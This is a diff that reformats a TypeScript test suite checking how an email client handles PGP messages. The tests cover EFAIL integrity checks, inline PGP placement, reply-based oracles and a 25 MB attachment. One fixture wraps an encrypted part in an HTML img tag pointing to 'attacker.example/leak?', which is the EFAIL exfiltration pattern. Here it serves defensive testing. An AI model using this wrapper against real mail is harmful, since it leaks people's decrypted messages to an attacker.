@@ -34,7 +34,10 @@ const pgpMimeMessage = (s: string, ciphertext: string, from = PARTNER) => messag
 describe('EFAIL: integrity', () => {
   it('ciphertext without integrity protection (no MDC) is refused and shows nothing', async () => {
     const s = subject('Ei MDC');
-    const { stdout, stderr } = await w.gpg.run(['--armor', '--rfc2440', '--cipher-algo', 'AES256', '--no-force-mdc', '--encrypt', '--recipient', w.personFpr], innerText(SECRET));
+    const { stdout, stderr } = await w.gpg.run(
+      ['--armor', '--rfc2440', '--cipher-algo', 'AES256', '--no-force-mdc', '--encrypt', '--recipient', w.personFpr],
+      innerText(SECRET),
+    );
     expect(stderr).toMatch(/without integrity protection/);
     const view = await w.deliverAndOpen(pgpMimeMessage(s, stdout.toString()), s);
     expect(view.crypto?.decryption).toBe('failed');
@@ -43,14 +46,20 @@ describe('EFAIL: integrity', () => {
 
   it('a tampered MDC (last byte of the protected packet flipped) fails closed', async () => {
     const s = subject('MDC muutettu');
-    const view = await w.deliverAndOpen(pgpMimeMessage(s, flipArmoredBit(await w.encrypt(innerText(SECRET), w.personFpr, { extra: ['--compress-algo', 'none'] }), -1)), s);
+    const view = await w.deliverAndOpen(
+      pgpMimeMessage(s, flipArmoredBit(await w.encrypt(innerText(SECRET), w.personFpr, { extra: ['--compress-algo', 'none'] }), -1)),
+      s,
+    );
     expect(view.crypto?.decryption).toBe('failed');
     expectNothingShown(view);
   });
 
   it('a bit flipped in the middle of the ciphertext fails closed', async () => {
     const s = subject('Bitti');
-    const armored = await w.encrypt(innerText(`${SECRET}\n${'täytettä '.repeat(200)}`), w.personFpr, { signer: w.partnerFpr, extra: ['--compress-algo', 'none'] });
+    const armored = await w.encrypt(innerText(`${SECRET}\n${'täytettä '.repeat(200)}`), w.personFpr, {
+      signer: w.partnerFpr,
+      extra: ['--compress-algo', 'none'],
+    });
     const view = await w.deliverAndOpen(pgpMimeMessage(s, flipArmoredBit(armored, 300)), s);
     expect(view.crypto?.decryption).toBe('failed');
     expect(view.crypto?.signature.status).toBe('none');
@@ -102,13 +111,20 @@ describe('inline PGP', () => {
     const s = subject('Inline salattu');
     const armored = await w.encrypt('Inline-viestin sisältö.', w.personFpr, { signer: w.partnerFpr });
     const view = await w.deliverAndOpen(message(mailHeaders(PARTNER, w.personAddress, s), textEntity(armored.replace(/\n/g, CRLF))), s);
-    expect(view.crypto).toMatchObject({ decryption: 'decrypted', inline: true, protectedSubject: false, signature: { status: 'good', fingerprint: w.partnerFpr } });
+    expect(view.crypto).toMatchObject({
+      decryption: 'decrypted',
+      inline: true,
+      protectedSubject: false,
+      signature: { status: 'good', fingerprint: w.partnerFpr },
+    });
     expect(view.text).toBe('Inline-viestin sisältö.');
     expect(view.encrypted).toBe(true);
   });
 
   it('a whole text body that is one cleartext-signed block: good from the From address, mismatch from another', async () => {
-    const signed = (await w.gpg.run(['--passphrase', GPG_PASS, '--clearsign', '--local-user', w.partnerFpr], 'Tapaaminen siirtyy torstaille.')).stdout.toString().replace(/\n/g, CRLF);
+    const signed = (await w.gpg.run(['--passphrase', GPG_PASS, '--clearsign', '--local-user', w.partnerFpr], 'Tapaaminen siirtyy torstaille.')).stdout
+      .toString()
+      .replace(/\n/g, CRLF);
     const s1 = subject('Clearsign');
     const good = await w.deliverAndOpen(message(mailHeaders(PARTNER, w.personAddress, s1), textEntity(signed)), s1);
     expect(good.crypto).toMatchObject({ decryption: 'not-encrypted', inline: true, signature: { status: 'good', fingerprint: w.partnerFpr } });
@@ -121,7 +137,13 @@ describe('inline PGP', () => {
   it('an encrypted block after ordinary text is not decrypted, and is marked as unopened', async () => {
     const s = subject('Inline tekstin jälkeen');
     const armored = await w.encrypt(SECRET, w.personFpr);
-    const view = await w.deliverAndOpen(message(mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s), textEntity(`Hei, mitä kuuluu?${CRLF}${CRLF}${armored.replace(/\n/g, CRLF)}`)), s);
+    const view = await w.deliverAndOpen(
+      message(
+        mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s),
+        textEntity(`Hei, mitä kuuluu?${CRLF}${CRLF}${armored.replace(/\n/g, CRLF)}`),
+      ),
+      s,
+    );
     expect(view.crypto).toBeUndefined();
     expect(view.unopened).toEqual([{ partId: '1', kind: 'inline-encrypted' }]);
     expect(view.text).toContain('Hei, mitä kuuluu?');
@@ -139,8 +161,13 @@ describe('inline PGP', () => {
 
   it('a cleartext-signed block after attacker text is never verified: no signature state, marked as unopened', async () => {
     const s = subject('Clearsign tekstin jälkeen');
-    const signed = (await w.gpg.run(['--passphrase', GPG_PASS, '--clearsign', '--local-user', w.partnerFpr], 'Hyväksyn maksun.')).stdout.toString().replace(/\n/g, CRLF);
-    const view = await w.deliverAndOpen(message(mailHeaders(PARTNER, w.personAddress, s), textEntity(`Maksa tilille FI00 1234 5678.${CRLF}${CRLF}${signed}`)), s);
+    const signed = (await w.gpg.run(['--passphrase', GPG_PASS, '--clearsign', '--local-user', w.partnerFpr], 'Hyväksyn maksun.')).stdout
+      .toString()
+      .replace(/\n/g, CRLF);
+    const view = await w.deliverAndOpen(
+      message(mailHeaders(PARTNER, w.personAddress, s), textEntity(`Maksa tilille FI00 1234 5678.${CRLF}${CRLF}${signed}`)),
+      s,
+    );
     expect(view.crypto).toBeUndefined();
     expect(view.unopened).toEqual([{ partId: '1', kind: 'inline-signed' }]);
   });
@@ -148,7 +175,10 @@ describe('inline PGP', () => {
   it('an encrypted block in a deeper part is not decrypted, and is marked with its part', async () => {
     const s = subject('Inline syvemmällä');
     const armored = await w.encrypt(SECRET, w.personFpr);
-    const raw = message(mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s), multipart('mixed', [textEntity('Katso alla.'), textEntity(armored.replace(/\n/g, CRLF))]));
+    const raw = message(
+      mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s),
+      multipart('mixed', [textEntity('Katso alla.'), textEntity(armored.replace(/\n/g, CRLF))]),
+    );
     const view = await w.deliverAndOpen(raw, s);
     expect(view.crypto).toBeUndefined();
     expect(view.unopened).toEqual([{ partId: '2', kind: 'inline-encrypted' }]);
@@ -161,7 +191,11 @@ describe('EFAIL and "Re: What\'s up Johnny": encrypted parts inside attacker MIM
     const s = subject('Kääritty salattu');
     const raw = message(
       mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s),
-      multipart('mixed', [textEntity('<img src="https://attacker.example/leak?', 'text/html'), encryptedEntity(await w.encrypt(innerText(SECRET), w.personFpr)), textEntity('">', 'text/html')]),
+      multipart('mixed', [
+        textEntity('<img src="https://attacker.example/leak?', 'text/html'),
+        encryptedEntity(await w.encrypt(innerText(SECRET), w.personFpr)),
+        textEntity('">', 'text/html'),
+      ]),
     );
     const view = await w.deliverAndOpen(raw, s);
     expect(view.crypto).toBeUndefined();
@@ -169,7 +203,7 @@ describe('EFAIL and "Re: What\'s up Johnny": encrypted parts inside attacker MIM
     expect(JSON.stringify(view)).not.toContain('salainen diagnoosi');
   });
 
-  it('reply-based oracle: replying to a message that embeds the person\'s old ciphertext quotes none of its plaintext (nor the armor)', async () => {
+  it("reply-based oracle: replying to a message that embeds the person's old ciphertext quotes none of its plaintext (nor the armor)", async () => {
     const s = subject('Re: Mitä kuuluu');
     const oldMail = await w.encrypt(innerText(SECRET), w.personFpr);
     const oldInline = await w.encrypt(SECRET, w.personFpr);
@@ -202,7 +236,13 @@ describe('a 25 MB encrypted attachment', () => {
     const payload = randomBytes(25 * 1024 * 1024);
     const inner = multipart('mixed', [
       textEntity('Liitteenä asiakirjat.'),
-      ['Content-Type: application/pdf; name="asiakirjat.pdf"', 'Content-Disposition: attachment; filename="asiakirjat.pdf"', 'Content-Transfer-Encoding: base64', '', payload.toString('base64').replace(/.{76}/g, `$&${CRLF}`)].join(CRLF),
+      [
+        'Content-Type: application/pdf; name="asiakirjat.pdf"',
+        'Content-Disposition: attachment; filename="asiakirjat.pdf"',
+        'Content-Transfer-Encoding: base64',
+        '',
+        payload.toString('base64').replace(/.{76}/g, `$&${CRLF}`),
+      ].join(CRLF),
     ]);
     const armored = await w.encrypt(inner, w.personFpr, { signer: w.partnerFpr, extra: ['--compress-algo', 'none'] });
     let peakRss = process.memoryUsage().rss;
@@ -221,7 +261,9 @@ describe('a 25 MB encrypted attachment', () => {
       const digest = (b: Buffer) => createHash('sha256').update(b).digest('hex');
       expect(digest(Buffer.from(file.contentBase64, 'base64'))).toBe(digest(payload));
       // Figures for the report; bounds generous for a 2-core machine shared with other jobs.
-      console.info(`25 MB encrypted attachment: deliver+open ${Math.round(openedMs)} ms, download ${Math.round(downloadMs)} ms, RSS +${Math.round((peakRss - baseRss) / 2 ** 20)} MiB (peak ${Math.round(peakRss / 2 ** 20)} MiB)`);
+      console.info(
+        `25 MB encrypted attachment: deliver+open ${Math.round(openedMs)} ms, download ${Math.round(downloadMs)} ms, RSS +${Math.round((peakRss - baseRss) / 2 ** 20)} MiB (peak ${Math.round(peakRss / 2 ** 20)} MiB)`,
+      );
       expect(openedMs).toBeLessThan(60_000);
       expect(peakRss - baseRss).toBeLessThan(1536 * 2 ** 20);
     } finally {
